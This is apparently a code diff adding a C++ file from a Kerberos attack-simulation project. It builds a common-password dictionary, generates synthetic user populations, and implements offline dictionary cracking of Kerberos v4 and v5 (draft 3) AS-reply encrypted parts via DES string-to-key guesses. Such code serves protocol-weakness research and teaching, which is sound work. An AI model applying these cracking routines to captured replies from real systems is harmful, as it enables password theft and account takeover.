@@ -1,0 +1,109 @@
+#include "src/attacks/passwords.h"
+
+#include "src/crypto/str2key.h"
+#include "src/krb4/messages.h"
+#include "src/krb5/enclayer.h"
+#include "src/krb5/messages.h"
+
+namespace kattack {
+
+const std::vector<std::string>& CommonPasswordDictionary() {
+  static const std::vector<std::string> dictionary = [] {
+    std::vector<std::string> base = {
+        "password", "123456",   "12345678", "qwerty",   "letmein",  "monkey",   "dragon",
+        "baseball", "football", "master",   "shadow",   "superman", "batman",   "trustno1",
+        "abc123",   "welcome",  "login",    "admin",    "root",     "guest",    "hello",
+        "secret",   "god",      "sex",      "money",    "love",     "freedom",  "whatever",
+        "princess", "sunshine", "iloveyou", "starwars", "computer", "michelle", "jessica",
+        "pepper",   "daniel",   "access",   "mustang",  "jordan",   "hunter",   "tigger",
+        "joshua",   "pass",     "test",     "killer",   "george",   "andrew",   "charlie",
+        "thomas",   "ranger",   "buster",   "hockey",   "soccer",   "harley",   "batman1",
+        "wizard",   "maggie",   "summer",   "ashley",   "nicole",   "chelsea",  "biteme",
+        "matthew",  "robert",   "danielle", "ferrari",  "cookie",   "athena",   "kerberos",
+    };
+    // Simple mutations: trailing digit, capitalized first letter.
+    std::vector<std::string> out = base;
+    for (const auto& word : base) {
+      out.push_back(word + "1");
+      std::string cap = word;
+      cap[0] = static_cast<char>(std::toupper(static_cast<unsigned char>(cap[0])));
+      out.push_back(cap);
+    }
+    return out;
+  }();
+  return dictionary;
+}
+
+std::string RandomStrongPassword(kcrypto::Prng& prng) {
+  static const char kAlphabet[] =
+      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#$%^&*";
+  std::string out;
+  size_t len = 12 + prng.NextBelow(6);
+  out.reserve(len);
+  for (size_t i = 0; i < len; ++i) {
+    out.push_back(kAlphabet[prng.NextBelow(sizeof(kAlphabet) - 1)]);
+  }
+  return out;
+}
+
+std::vector<std::pair<std::string, bool>> MakePopulation(kcrypto::Prng& prng,
+                                                         const PopulationConfig& config) {
+  const auto& dictionary = CommonPasswordDictionary();
+  std::vector<std::pair<std::string, bool>> out;
+  out.reserve(static_cast<size_t>(config.size));
+  for (int i = 0; i < config.size; ++i) {
+    bool weak = prng.NextBelow(1000) < static_cast<uint64_t>(config.weak_fraction * 1000);
+    if (weak) {
+      out.emplace_back(dictionary[prng.NextBelow(dictionary.size())], true);
+    } else {
+      out.emplace_back(RandomStrongPassword(prng), false);
+    }
+  }
+  return out;
+}
+
+std::optional<std::string> CrackSealedReply(kerb::BytesView sealed_reply_body,
+                                            const krb4::Principal& victim,
+                                            const std::vector<std::string>& dictionary,
+                                            uint64_t* attempts_out) {
+  uint64_t attempts = 0;
+  for (const auto& candidate : dictionary) {
+    ++attempts;
+    kcrypto::DesKey guess = kcrypto::StringToKey(candidate, victim.Salt());
+    auto plain = krb4::Unseal4(guess, sealed_reply_body);
+    if (plain.ok() && krb4::AsReplyBody4::Decode(plain.value()).ok()) {
+      if (attempts_out != nullptr) {
+        *attempts_out = attempts;
+      }
+      return candidate;
+    }
+  }
+  if (attempts_out != nullptr) {
+    *attempts_out = attempts;
+  }
+  return std::nullopt;
+}
+
+std::optional<std::string> CrackSealedReply5(kerb::BytesView sealed_enc_part,
+                                             const krb4::Principal& victim,
+                                             const std::vector<std::string>& dictionary,
+                                             uint64_t* attempts_out) {
+  krb5::EncLayerConfig enc;  // Draft 3 defaults, as on the wire
+  uint64_t attempts = 0;
+  for (const auto& candidate : dictionary) {
+    ++attempts;
+    kcrypto::DesKey guess = kcrypto::StringToKey(candidate, victim.Salt());
+    if (krb5::UnsealTlv(guess, krb5::kMsgEncAsRepPart, sealed_enc_part, enc).ok()) {
+      if (attempts_out != nullptr) {
+        *attempts_out = attempts;
+      }
+      return candidate;
+    }
+  }
+  if (attempts_out != nullptr) {
+    *attempts_out = attempts;
+  }
+  return std::nullopt;
+}
+
+}  // namespace kattack
